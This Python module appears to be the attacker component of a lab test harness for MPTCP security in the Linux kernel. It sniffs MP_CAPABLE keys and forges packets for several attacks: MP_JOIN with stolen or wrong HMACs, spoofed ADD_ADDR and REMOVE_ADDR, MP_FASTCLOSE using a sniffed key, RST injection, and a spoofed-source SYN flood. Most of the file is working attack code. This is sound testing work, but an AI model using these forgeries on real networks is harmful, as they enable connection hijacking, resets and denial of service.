"""The attacker process, run inside the attacker's namespace:

    python -m harness.attack.attacker '{"kind": ..., "iface": ..., "attacker": ...}'

It listens on its interface from the start (on-path, that interface also
gets copies of one link's packets: it sees the MP_CAPABLE handshake and
learns the keys), writes {"event": "ready"}, waits for one JSON line on
stdin (what an off-path attacker is assumed to know: the server's address
and port), runs its attack, and writes {"event": "result", ...} with what
it sent and what came back.  The verdict is not its own: the trial record judges it with
the kernel's counters (bench.record.security)."""
from __future__ import annotations

import json
import os
import random
import sys
import threading
import time

from harness.attack import flood, mptcpopt, wire
from harness.attack.wire import ACK, RST, SYN
from harness.net import addressing

REPLY_WAIT_S = 1.0
SUBFLOW_WAIT_S = 1.5
FRESH_WAIT_S = 3.0
FLOOD_MAX_S = 3600.0


def say(**msg) -> None:
    sys.stdout.write(json.dumps(msg) + "\n")
    sys.stdout.flush()


class Observer:
    """Every TCP segment on the interface: the last one per direction of
    each flow, the MP_CAPABLE keys of the connection it saw open, and the
    segments addressed to the attacker itself."""

    def __init__(self, iface: str, own: str):
        self.own = own
        self.sock = wire.capture_socket(iface)
        self.lock = threading.Condition()
        self.last: dict[tuple, wire.Segment] = {}
        self.keys: dict[str, bytes] = {}
        self.handshake: tuple | None = None      # the client's (src, sport, dst, dport)
        self.mine: list[wire.Segment] = []
        self.seen = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                frame, kind, at = wire.receive(self.sock)
            except TimeoutError:
                continue
            except OSError:
                return
            if kind == wire.PACKET_OUTGOING:     # what we sent ourselves
                continue
            seg = wire.parse_frame(frame, at)
            if seg is not None:
                self._take(seg, kind == wire.PACKET_OTHERHOST)

    def _take(self, seg: wire.Segment, mirrored: bool) -> None:
        with self.lock:
            self.seen += 1
            if seg.dst == self.own:
                if not mirrored:          # the copy of a reply on the watched link comes too
                    self.mine.append(seg)
            elif seg.src != self.own:
                self.last[seg.tuple] = seg
                for value in mptcpopt.options_of(seg.options):
                    keys = mptcpopt.capable_keys(value)
                    if len(keys) == 1 and seg.has(SYN | ACK):
                        self.keys["server"] = keys[0]
                    elif len(keys) == 2 and not seg.has(SYN):
                        self.keys["client"], self.keys["server"] = keys
                        self.handshake = seg.tuple
            self.lock.notify_all()

    def _until(self, find, timeout: float) -> wire.Segment | None:
        """What `find` returns (under the lock) once it returns something,
        or None after `timeout` seconds."""
        deadline = time.monotonic() + timeout
        with self.lock:
            while (seg := find()) is None:
                left = deadline - time.monotonic()
                if left <= 0:
                    return None
                self.lock.wait(left)
            return seg

    def wait_mine(self, match, timeout: float) -> wire.Segment | None:
        """The first segment to the attacker that `match` accepts."""
        return self._until(lambda: next(filter(match, self.mine), None), timeout)

    def fresh(self, tuple_: tuple, since: float, timeout: float) -> wire.Segment | None:
        """The first segment of `tuple_` that arrived after `since`: forged
        numbers must be the connection's current ones, however far the
        reader lags behind the wire."""
        def find():
            seg = self.last.get(tuple_)
            return seg if seg is not None and seg.at >= since else None
        return self._until(find, timeout)

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=2)
        self.sock.close()


def _rand(n: int) -> bytes:
    return random.getrandbits(8 * n).to_bytes(n, "big")


def _reply_kind(seg: wire.Segment | None) -> str:
    if seg is None:
        return "none"
    if seg.has(RST):
        return "rst"
    if seg.has(SYN | ACK):
        joins = [v for v in mptcpopt.options_of(seg.options) if mptcpopt.subtype(v) == mptcpopt.MP_JOIN]
        return "synack_join" if joins else "synack_plain"
    return "other"


class Attack:
    def __init__(self, plan: dict, seen: Observer, send: wire.Sender, go: dict):
        self.plan, self.seen, self.send, self.go = plan, seen, send, go
        self.own = plan["attacker"]
        self.out: dict = {"kind": plan["kind"], "sent": 0}

    # ------------------------------------------------------------ helpers
    def server(self) -> tuple[str, int]:
        if self.seen.handshake:
            return self.seen.handshake[2], self.seen.handshake[3]
        return tuple(self.go["server"])

    def victim(self) -> tuple | None:
        """The client -> server tuple of the connection on the watched link:
        the one whose handshake was seen, else the one seen last."""
        if self.seen.handshake:
            return self.seen.handshake
        srv = tuple(self.go["server"])
        flows = [t for t in self.seen.last if (t[2], t[3]) == srv]
        return max(flows, key=lambda t: self.seen.last[t].at, default=None)

    def _join_syn(self, token: bytes, sport: int) -> tuple[wire.Segment | None, bytes]:
        nonce = _rand(4)
        host, port = self.server()
        isn = random.getrandbits(32)
        self.send.tcp(self.own, sport, host, port, isn, 0, SYN,
                      options=[(2, b"\x05\xb4"), (mptcpopt.KIND, mptcpopt.join_syn(token, nonce))])
        reply = self.seen.wait_mine(lambda s: s.sport == port and s.dport == sport, REPLY_WAIT_S)
        return reply, nonce

    def _lacks(self, *keys: str) -> bool:
        """Whether the handshake did not give the attacker these keys (said in the result)."""
        missing = [k for k in keys if k not in self.seen.keys]
        if missing:
            self.out["error"] = (f"the attacker saw no MP_CAPABLE handshake giving the "
                                 f"{' and '.join(missing)} key")
        return bool(missing)

    def _forge_from_server(self, option: bytes | None = None, flags: int = ACK, seq_offset: int = 0) -> bool:
        """A segment as if from the server on the watched connection,
        at the sequence numbers last seen on the wire."""
        victim = self.victim()
        if victim is None:
            self.out["error"] = "no connection seen on the watched link"
            return False
        c, cp, s, sp = victim
        last = self.seen.fresh((s, sp, c, cp), time.time(), FRESH_WAIT_S)
        if last is None:
            self.out["error"] = "no server-to-client segment seen on the watched link"
            return False
        self.out["segment_age_ms"] = round((time.time() - last.at) * 1000, 3)
        # No timestamp option: a copy of the server's last TSval was dropped
        # by PAWS (TcpExtPAWSEstab), and one from the future would become the
        # receiver's ts_recent and have the server's own segments dropped.
        # Linux takes a segment without one on a connection that has them.
        options = []
        if option is not None:
            options.append((mptcpopt.KIND, option))
        self.send.tcp(s, sp, c, cp, last.seq + last.payload_len + seq_offset, last.ack, flags,
                      window=last.window, options=options)
        self.out["sent"] += 1
        self.out["forged_tuple"] = [s, sp, c, cp]
        return True

    # ------------------------------------------------------------ attacks
    def join_wrong_token(self) -> None:
        """Off-path: MP_JOIN SYNs naming tokens the server never gave."""
        replies: dict[str, int] = {}
        for i in range(self.plan.get("count", 1)):
            reply, _ = self._join_syn(_rand(4), 40000 + i)
            self.out["sent"] += 1
            kind = _reply_kind(reply)
            replies[kind] = replies.get(kind, 0) + 1
        self.out["replies"] = replies

    def _join(self, right_hmac: bool) -> None:
        if self._lacks("server", *(("client",) if right_hmac else ())):
            return
        token = mptcpopt.token(self.seen.keys["server"])
        sport = 41000 + random.randrange(1000)
        reply, nonce = self._join_syn(token, sport)
        self.out["sent"] += 1
        self.out["token"] = token.hex()
        self.out["synack"] = _reply_kind(reply)
        fields = None
        if reply is not None:
            fields = next(filter(None, map(mptcpopt.join_synack_fields,
                                           mptcpopt.options_of(reply.options))), None)
        if fields is None:
            return
        thmac, server_nonce = fields
        if "client" in self.seen.keys:
            expect = mptcpopt.join_synack_hmac(self.seen.keys["server"], self.seen.keys["client"],
                                               server_nonce, nonce)
            self.out["server_hmac_checks"] = expect == thmac
        mac = (mptcpopt.join_ack_hmac(self.seen.keys["client"], self.seen.keys["server"], nonce,
                                      server_nonce) if right_hmac else _rand(20))
        host, port = self.server()
        self.send.tcp(self.own, sport, host, port, reply.ack, reply.seq + 1, ACK,
                      options=[(mptcpopt.KIND, mptcpopt.join_ack(mac))])
        self.out["sent"] += 1
        after = self.seen.wait_mine(lambda s: s.sport == port and s.dport == sport
                                    and s.at > reply.at, SUBFLOW_WAIT_S)
        # A SYN/ACK again: the server kept waiting for a good third ACK; a
        # bare ACK (MP_JOIN's fourth): it took the subflow.
        self.out["after_ack"] = ("synack_again" if after is not None and after.has(SYN)
                                 else _reply_kind(after) if after is None or after.has(RST) else "ack")

    def join_wrong_hmac(self) -> None:
        """On-path: the token is learned from the handshake's keys, the
        HMAC of the third ACK is not the right one."""
        self._join(right_hmac=False)

    def join_stolen_keys(self) -> None:
        """On-path from the connection's start: both keys seen, so the right
        HMAC (RFC 8684 section 5: what MPTCP does not protect against)."""
        self._join(right_hmac=True)

    def _add_addr(self, right_hmac: bool) -> None:
        if right_hmac and self._lacks("server", "client"):
            return
        address_id = self.plan.get("address_id", 42)
        mac = (mptcpopt.add_addr_hmac(self.seen.keys["server"], self.seen.keys["client"], self.own,
                                      address_id) if right_hmac else _rand(8))
        t0 = time.time()
        if not self._forge_from_server(mptcpopt.add_addr(self.own, address_id, mac)):
            return
        syn = self.seen.wait_mine(lambda s: s.has(SYN) and not s.has(ACK) and s.at >= t0, SUBFLOW_WAIT_S)
        self.out["join_syn_to_attacker"] = syn is not None

    def add_addr_bad_hmac(self) -> None:
        """On-path: the server's address list grows by the attacker's
        address, under an HMAC the attacker cannot compute without the keys."""
        self._add_addr(right_hmac=False)

    def add_addr_stolen_keys(self) -> None:
        self._add_addr(right_hmac=True)

    def remove_addr(self) -> None:
        """On-path: REMOVE_ADDR carries no HMAC; forge it for the server's
        address ids (0, its initial address, by default)."""
        ids = self.plan.get("address_ids", [0])
        self.out["address_ids"] = ids
        self._forge_from_server(mptcpopt.remove_addr(*ids))

    def fastclose_stolen_key(self) -> None:
        """On-path: MP_FASTCLOSE carries the receiver's key, seen in the handshake."""
        if self._lacks("client"):
            return
        self._forge_from_server(mptcpopt.fastclose(self.seen.keys["client"]))

    def rst_in_window(self) -> None:
        """A RST inside the receive window but not at its left edge: what a
        blind attacker that guessed into the window sends (RFC 5961 makes
        the receiver answer with a challenge ACK instead of resetting)."""
        for _ in range(self.plan.get("count", 1)):
            if not self._forge_from_server(flags=RST, seq_offset=random.randrange(1, 1 << 12)):
                return

    def rst_exact(self) -> None:
        """On-path: a RST at exactly the sequence number the receiver expects."""
        self._forge_from_server(flags=RST)

    def syn_flood(self) -> None:
        """Off-path: SYNs from forged sources at the plan's rate until told to
        stop (stdin), with MP_CAPABLE when the listener is MPTCP's."""
        stop = threading.Event()
        host, port = self.server()
        mp_capable = bool(self.go.get("mptcp_listener"))
        out: dict = {}
        thread = threading.Thread(target=lambda: out.update(flood.flood(
            host, port, addressing.FLOOD_SOURCES, self.plan["rate_pps"], FLOOD_MAX_S, mp_capable, stop)))
        thread.start()
        say(event="started")
        sys.stdin.readline()            # the trial is over (or the orchestrator is gone)
        stop.set()
        thread.join()
        self.out.update(out)


def main(argv: list[str]) -> int:
    plan = json.loads(argv[1])
    if not hasattr(Attack, plan["kind"]):
        say(event="error", error=f"no attack {plan['kind']!r}")
        return 2
    seen = Observer(plan["iface"], plan["attacker"])
    send = wire.Sender()
    say(event="ready", pid=os.getpid())
    line = sys.stdin.readline()
    if not line:                    # the trial ended before the attack's time
        return 0
    go = json.loads(line)
    attack = Attack(plan, seen, send, go)
    t0 = time.monotonic()
    try:
        getattr(attack, plan["kind"])()
    except Exception as exc:       # said in the result, judged as inconclusive
        attack.out["error"] = f"{type(exc).__name__}: {exc}"
    attack.out.update(duration_s=round(time.monotonic() - t0, 3), segments_seen=seen.seen,
                      keys_seen=sorted(seen.keys))
    say(event="result", **attack.out)
    seen.close()
    send.close()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
